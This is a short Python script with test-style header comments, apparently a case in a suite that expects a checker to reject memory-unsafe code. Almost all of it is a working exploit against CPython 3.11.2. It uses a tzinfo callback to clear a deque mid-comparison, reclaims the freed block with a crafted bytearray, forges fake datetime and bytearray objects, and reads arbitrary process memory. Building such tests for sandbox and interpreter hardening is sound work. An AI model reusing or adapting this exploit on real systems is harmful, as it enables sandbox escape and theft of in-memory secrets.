# expect: reject memory
# line: 34
# why: round 71 (ours): the same set by setattr with a literal name: raw memory under 3.11.2
import collections
import datetime

keep = []
forged = []
dq = collections.deque()
state = {"n": 0, "payload": b"", "fake": 0}
N = 25


def helper(dt):
    state["n"] += 1
    if state["n"] == 1:
        dq.clear()
        keep.append(bytearray(state["payload"]))
    elif id(dt) == state["fake"]:
        forged.append(dt)
    return datetime.timedelta(0)


class TZ(datetime.tzinfo):
    pass


def w8(v):
    return v.to_bytes(8, "little")


tz1 = TZ()
tz2 = TZ()
setattr(tz1, "utcoffset", helper)
setattr(tz2, "utcoffset", helper)
da = datetime.datetime(2020, 1, 1, tzinfo=tz1)
db = datetime.datetime(2020, 1, 1, tzinfo=tz2)
dc = datetime.datetime(2020, 1, 1, tzinfo=tz2)
dq.append(tuple([da, 0] + [0] * (N - 2)))
fake = id(dq[0]) + 48
state["fake"] = fake
# a fake datetime at block+64: refcnt, type, hashcode, hastzinfo+data, fold, tzinfo
words = [0, 0, 0, 0, 0, 0, fake, 0, 1 << 40, id(datetime.datetime), 0, 1, 0, id(tz1)]
raw = b"".join([w8(x) for x in words])
state["payload"] = raw + bytes(232 - len(raw))
try:
    dq.index(tuple([db, dc] + [0] * (N - 2)))
except (RuntimeError, ValueError) as e:
    print(type(e).__name__, e)
print(len(keep), len(forged))
B = keep[0]
B[64:120] = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
mem = forged[0]
print(type(mem).__name__, hex(len(mem)), "at", hex(id(mem)), "fake was", hex(fake))
probe = "freed-memory-probe"
print("read through it:", bytes(mem[id(probe) + 48:id(probe) + 48 + len(probe)]))
